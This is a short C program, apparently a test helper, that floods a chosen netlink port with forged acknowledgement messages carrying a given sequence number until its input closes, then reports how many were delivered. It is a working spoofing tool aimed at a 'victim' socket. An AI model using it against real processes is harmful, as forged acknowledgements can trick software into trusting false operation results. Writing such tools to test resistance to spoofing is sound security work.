// SPDX-License-Identifier: Apache-2.0
// Sends a forged acknowledgement to a netlink socket until it is told to stop (end of standard input).
// usage: forge PROTOCOL PORT SEQUENCE
#include <linux/netlink.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

int main(int argc, char **argv)
{
	struct {
		struct nlmsghdr header;
		struct nlmsgerr error;
	} message;
	struct sockaddr_nl victim = { .nl_family = AF_NETLINK };
	struct pollfd input = { .fd = 0, .events = POLLIN };
	int fd, delivered = 0;

	if (argc != 4 || (fd = socket(AF_NETLINK, SOCK_RAW, atoi(argv[1]))) < 0)
		return 2;
	memset(&message, 0, sizeof(message));
	message.header.nlmsg_len = sizeof(message);
	message.header.nlmsg_type = NLMSG_ERROR;
	message.header.nlmsg_seq = (unsigned)atoi(argv[3]);
	victim.nl_pid = (unsigned)atoi(argv[2]);
	while (poll(&input, 1, 1) == 0) {
		if (sendto(fd, &message, sizeof(message), 0, (struct sockaddr *)&victim, sizeof(victim)) > 0)
			delivered++;
	}
	printf("%d\n", delivered);
	return 0;
}
